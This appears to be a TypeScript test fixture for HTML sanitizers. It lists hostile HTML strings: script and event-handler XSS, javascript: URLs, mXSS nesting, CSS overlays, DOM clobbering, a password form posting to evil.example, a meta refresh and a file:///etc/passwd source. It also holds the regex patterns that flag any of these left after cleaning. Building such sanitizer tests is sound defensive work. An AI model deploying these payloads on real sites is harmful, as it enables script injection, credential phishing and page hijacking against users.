/**
 * Attacks that try to take over the page. Both cleaners must remove them: one before storage, one before
 * display.
 */
export const hostile: readonly string[] = [
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>',
  '<div style="POSITION:/**/FIXED;top:0">x</div>',
  '<div style="position&colon;fixed">x</div>',
  '<p style="margin:-9999px;transform:scale(99)">x</p>',
  '<p style="background:url(https://evil.example/p.png)">x</p>',
  '<p style="color:red;background-image:url(//evil.example)">x</p>',
  '<p style="width:99999px;height:99999px;font-size:9999px;padding-left:99999px">x</p>',
  '<p style="--a:fixed;position:var(--a)">x</p>',
  '<style>*{position:fixed}</style>x',
  '<svg><style>*{position:fixed}</style></svg>x',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>x',
  '<link rel="stylesheet" href="https://evil.example/a.css">x',
  '<form action="https://evil.example"><input name="password"><button>登录</button></form>x',
  '<input autofocus onfocus=alert(1)>x<textarea>y</textarea><select><option>z</select>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">x',
  '<base href="https://evil.example/">x',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">x',
  '<video autoplay src="x"></video><audio src="x"></audio><dialog open>x</dialog><details open ontoggle=alert(1)>x</details>',
  '<p id="root" name="location" class="ant-modal-mask">x</p><a id="config" name="services">y</a><img name="cookie">',
  '<p slot="a" part="b" contenteditable popover accesskey="s" tabindex="1" data-x="1" aria-hidden="true">x</p>',
  '<a href="javascript:alert(1)">x</a><a href="JaVa&#x09;ScRiPt:alert(1)">x</a><a href="data:text/html,x">x</a>',
  '<a href="intent://x#Intent;end">x</a><a href="//evil.example">x</a><a href="\\\\evil.example">x</a>',
  '<a href="https://example.com" target="console">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src=x onerror=alert(1) style="position:absolute">x',
  '<img src="file:///etc/passwd"><img src="//evil.example/p.png">x',
  '<table background="https://evil.example/p.png"><tr><td bgcolor="red" nowrap>x</td></tr></table>',
  '<p><script>alert(1)</script><noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript></p>',
  '<template><p style="position:fixed">x</p></template>x',
]

/** Typical output of an editor. It must stay unchanged. */
export const harmless =
  '<h2>标题</h2><p style="text-align:center"><strong>粗</strong><u>线</u><span style="color:#ff0000">红</span></p>' +
  '<p>H<sub>2</sub>O 10<sup>2</sup>米<s>20元</s></p>' +
  '<ul><li>一</li></ul><ol start="3"><li>二</li></ol><p><img src="/files/a.png" alt="图"></p>'

const forbidden: readonly RegExp[] = [
  /<(?:script|style|svg|math|link|form|input|button|textarea|select|option|meta|base|iframe|object|embed|video|audio|dialog|details|template|noscript)\b/i,
  /\s(?:id|name|class|slot|part|contenteditable|popover|accesskey|tabindex|action|background|bgcolor|on\w+|data-\w+|aria-\w+)[=\s>]/i,
  /position|fixed|z-index|inset|transform|margin|--a|url\(|\d{5}px/i,
  /(?:href|src)=["']?\s*(?:javascript|data|intent|file|java|\/\/|\\)/i,
  /target="(?!_blank")/,
]

/** Forbidden content that is left in the text. */
export const faultsOf = (html: string): string[] => forbidden.flatMap((fault) => fault.exec(html)?.[0] ?? [])
